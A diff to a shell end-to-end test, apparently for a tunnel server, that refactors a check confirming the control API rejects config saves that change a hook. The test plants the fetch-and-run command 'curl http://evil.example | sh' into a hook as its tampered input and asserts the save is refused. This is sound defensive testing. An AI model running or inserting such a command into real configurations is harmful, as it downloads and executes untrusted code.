@@ -27,27 +27,19 @@ grep -q "routing.post_up: hello from post_up" "$E2E_DIR/server.log" || e2e_fail 
 grep -q "qlen 321" <<<"$(ip -n "$NS_S" link show qes0)" || e2e_fail "tun.tx_queue_len not applied"
 
 # The control API (what a panel would use) cannot change a hook.
-python3 - "$dir/control.sock" <<'PY' || e2e_fail "config-save changed a hook"
-import json, socket, sys
-def call(req):
-    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
-    s.connect(sys.argv[1])
-    s.sendall((json.dumps(req) + "\n").encode())
-    data = b""
-    while not data.endswith(b"\n"):
-        chunk = s.recv(65536)
-        if not chunk:
-            break
-        data += chunk
-    return json.loads(data)
-cur = call({"cmd": "config-get"})
+python3 - "$dir/control.sock" "$(dirname "$(readlink -f "$0")")/tools" <<'PY' ||
+import sys
+sys.path.insert(0, sys.argv[2])
+from control_call import call
+cur = call(sys.argv[1], {"cmd": "config-get"})
 assert cur["ok"], cur
 text = cur["text"].replace("echo hello from post_up", "curl http://evil.example | sh")
-r = call({"cmd": "config-save", "text": text, "base_sha256": cur["sha256"]})
+r = call(sys.argv[1], {"cmd": "config-save", "text": text, "base_sha256": cur["sha256"]})
 assert not r["ok"], r
 assert "cannot be changed" in r["error"] or any(
     "cannot be changed" in f.get("message", "") for f in r.get("findings", [])), r
 PY
+  e2e_fail "config-save changed a hook"
 grep -q "curl" "$dir/server.conf" && e2e_fail "the config file was changed"
 
 # Client hooks: environment of the session, run around it.
